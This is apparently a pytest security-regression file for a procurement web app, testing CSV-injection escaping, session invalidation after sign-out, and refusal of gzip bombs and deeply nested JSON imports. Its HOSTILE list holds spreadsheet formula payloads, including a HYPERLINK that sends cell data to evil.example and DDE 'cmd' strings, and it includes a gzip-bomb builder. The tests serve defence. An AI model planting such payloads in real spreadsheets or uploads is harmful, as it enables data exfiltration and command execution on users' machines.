"""Issue 16, round two of the attack: exports, page sessions, imports and uploads (items 4, 5,
10 and 14). Each test failed before its fix."""
from __future__ import annotations

import csv
import gzip
import io
import tracemalloc

import pytest
import sqlalchemy as sa

from matchmaker.extensions import db
from matchmaker.models import Supplier
from tests.api.test_shortlists import CHAIRS, shortlist
from tests.api.test_tenders import tender_payload
from tests.pages.conftest import Browser

# --------------------------------------------------------------------------- 4: CSV injection

HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")", "+31 cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_a_cell_that_would_start_a_formula_is_quoted_and_numbers_stay_numbers():
    from matchmaker.interop.spreadsheet import safe_cell

    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert safe_cell("Stoelenkliniek") == "Stoelenkliniek"
    assert safe_cell("Kringloop =wel") == "Kringloop =wel"
    assert safe_cell(-3) == -3 and safe_cell(-0.25) == -0.25
    assert safe_cell(None) == ""


@pytest.fixture
def hostile_market(app, register):
    """Suppliers whose names and municipalities (as an import or staff could store them) start
    formulas; they rank on the tender below."""
    ids = []
    for number, text in enumerate(HOSTILE):
        ids.append(register(**{**CHAIRS, "kvk_number": f"8200000{number}",
                               "name": f"Stoelen {number}"}).id)
    with app.app_context():
        for supplier_id, text in zip(ids, HOSTILE):
            supplier = db.session.get(Supplier, supplier_id)
            supplier.name, supplier.municipality = text, text
        db.session.commit()
    return ids


def _cells(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


@pytest.mark.parametrize("route", ["api", "page"])
def test_every_csv_export_neutralises_hostile_names_and_municipalities(
        client, make_token, hostile_market, route):
    buyer = make_token("buyer", buyer="Waterbedrijf Amstelland")
    tender = client.post("/api/tenders", json=tender_payload(
        criteria=[{"kind": "circular_strategy", "mode": "must", "params": {"at_least": "refurbish"}}]),
        headers=buyer).get_json()
    result = shortlist(client, buyer, tender["id"])
    assert len(result["items"]) == len(HOSTILE)
    if route == "api":
        response = client.get(f"/api/shortlists/{result['id']}/export.csv", headers=buyer)
    else:
        browser = Browser(client)
        browser.sign_in(buyer)
        response = browser.get(f"/buyer/shortlists/{result['id']}/export.csv")

    rows = _cells(response)
    assert sorted(row["supplier_name"] for row in rows) == sorted("'" + t for t in HOSTILE)
    assert sorted(row["municipality"] for row in rows) == sorted("'" + t for t in HOSTILE)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
        assert float(row["score"]) >= 0


# --------------------------------------------------------------------------- 5: sign-out

ACCOUNT_PASSWORD = "circulair-inkopen-2027"


@pytest.fixture
def signed_in(app, client, make_token, runner, request):
    """A buyer signed in to the pages, with a token (``token``) or an account (``account``)."""
    buyer = make_token("buyer", buyer="Grachtenbank")
    browser = Browser(client)
    if request.param == "token":
        browser.sign_in(buyer)
    else:
        result = runner.invoke(args=["create-account", "--email", "inkoop@grachtenbank.example",
                                     "--role", "buyer", "--buyer", "Grachtenbank",
                                     "--password", ACCOUNT_PASSWORD])
        assert result.exit_code == 0, result.output
        response = browser.post("/sign-in", {"email": "inkoop@grachtenbank.example",
                                             "password": ACCOUNT_PASSWORD})
        assert response.status_code == 302
    assert browser.get("/buyer/tenders").status_code == 200
    return browser, buyer


def _replay(client, cookie: str):
    client.set_cookie("session", cookie)
    return client.get("/buyer/tenders")


@pytest.mark.parametrize("signed_in", ["token", "account"], indirect=True)
def test_a_cookie_copied_before_sign_out_is_refused_after_it(signed_in):
    browser, _buyer = signed_in
    copied = browser.client.get_cookie("session").value

    browser.post("/sign-out")
    replayed = _replay(browser.client, copied)

    assert replayed.status_code == 302
    assert "/sign-in" in replayed.headers["Location"]


@pytest.mark.parametrize("signed_in", ["token"], indirect=True)
def test_signing_out_of_a_token_session_leaves_the_token_itself_valid(client, signed_in):
    browser, buyer = signed_in
    browser.post("/sign-out")
    assert client.get("/api/tenders", headers=buyer).status_code == 200


@pytest.mark.parametrize("signed_in", ["token"], indirect=True)
def test_a_session_ends_after_its_maximum_age(app, signed_in):
    browser, _buyer = signed_in
    app.config["PAGE_SESSION_MAX_HOURS"] = 0
    try:
        response = browser.get("/buyer/tenders")
    finally:
        app.config["PAGE_SESSION_MAX_HOURS"] = 12
    assert response.status_code == 302 and "/sign-in" in response.headers["Location"]


@pytest.mark.parametrize("signed_in", ["token"], indirect=True)
def test_signing_in_again_ends_the_session_the_cookie_had(signed_in):
    browser, buyer = signed_in
    copied = browser.client.get_cookie("session").value
    browser.sign_in(buyer)
    assert browser.get("/buyer/tenders").status_code == 200
    assert _replay(browser.client, copied).status_code == 302


# --------------------------------------------------------------------------- 10: import files

def _gzip_bomb(path, unpacked_mb: int = 50, line: bytes = b"\0" * 1024) -> None:
    """``unpacked_mb`` MB of ``line`` repeated, gzipped while written (a few hundred KB)."""
    block = line * (1024 * 1024 // len(line))
    with gzip.open(path, "wb", compresslevel=9) as out:
        for _ in range(unpacked_mb):
            out.write(block)


IMPORTS = {
    "import-suppliers": [],
    "import-ocds": ["--buyer", "Waterbedrijf Amstelland"],
    "import-cpv": [],
}


def _run_import(app, runner, command: str, path):
    app.config["IMPORT_MAX_BYTES"] = 1_000_000
    try:
        tracemalloc.start()
        result = runner.invoke(args=[command, str(path), *IMPORTS[command]])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        app.config["IMPORT_MAX_BYTES"] = 512 * 1024 * 1024
    return result, peak


def _nothing_imported(app) -> None:
    from matchmaker.models import Tender

    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Supplier)) == 0
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Tender)) == 0


@pytest.mark.parametrize("command", sorted(IMPORTS))
@pytest.mark.parametrize("line", [b"\0" * 1024, b" " * 1023 + b"\n"], ids=["one-line", "blank-lines"])
def test_a_gzip_bomb_is_refused_before_it_unpacks_with_bounded_memory(
        app, runner, make_token, tmp_path, command, line):
    make_token("buyer", buyer="Waterbedrijf Amstelland")
    bomb = tmp_path / "bomb.jsonl.gz"
    _gzip_bomb(bomb, line=line)
    assert bomb.stat().st_size < 1_000_000

    result, peak = _run_import(app, runner, command, bomb)

    assert result.exit_code != 0
    assert "IMPORT_MAX_BYTES" in result.output and "line " in result.output, result.output
    assert "Traceback" not in result.output
    # A 1 MB limit: the reader holds about that much at most (generous bound for the rest).
    assert peak < 16_000_000, peak
    _nothing_imported(app)


DEEP = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize("command", ["import-suppliers", "import-ocds"])
@pytest.mark.parametrize("content, line", [
    ("\n\n" + DEEP + "\n", 3),                       # JSON lines, a deep line
    ('{"releases": [\n' + "[\n" * 100_000, 64),     # one document over many lines
], ids=["json-lines", "document"])
def test_json_nested_too_deep_is_refused_with_its_line(app, runner, make_token, tmp_path,
                                                       command, content, line):
    make_token("buyer", buyer="Waterbedrijf Amstelland")
    path = tmp_path / "deep.json"
    path.write_text(content)

    result = runner.invoke(args=[command, str(path), *IMPORTS[command]])

    assert result.exit_code != 0
    assert f"line {line}: JSON nested deeper than 64 levels" in result.output, result.output
    assert "Traceback" not in result.output and "RecursionError" not in result.output
    _nothing_imported(app)


def test_a_json_lines_file_is_decoded_line_by_line_not_whole():
    """The reader hands out each line's document as it reads it: a broken line far down does
    not stop the first ones being decoded first (the whole file is never one string)."""
    from matchmaker.interop.reading import ImportFileError, read_json_documents

    documents = read_json_documents(io.BytesIO(b'{"a": 1}\n{"b": 2}\n{"c": \n'))
    assert next(documents) == (1, {"a": 1})
    assert next(documents) == (2, {"b": 2})
    with pytest.raises(ImportFileError) as caught:
        next(documents)
    assert caught.value.line == 3
